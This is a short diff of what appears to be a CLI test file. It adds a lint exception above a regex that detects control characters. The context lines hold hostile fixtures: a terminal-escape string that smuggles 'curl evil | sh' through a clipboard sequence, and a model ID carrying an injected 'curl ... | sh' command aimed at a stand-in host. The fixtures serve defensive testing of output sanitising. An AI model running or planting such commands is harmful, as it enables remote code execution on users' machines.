@@ -20,6 +20,7 @@ const CLI = join(PROJECT_ROOT, 'dist/cli.js');
 const HOSTILE = '\x1b[2J\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;pwned\x07\r✓ Connected\u009b31m\u202egnp.exe\u200b\x7f';
 const EVIL_ID = 'gpt-4o; curl -s https://x.example/p | sh #';
 /** Raw controls (other than the newline between lines), C1, DEL, bidi and zero-width characters. */
+// eslint-disable-next-line no-control-regex -- the raw characters a hostile gateway sends
 const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]/;
 
 function env(key: string): NodeJS.ProcessEnv {
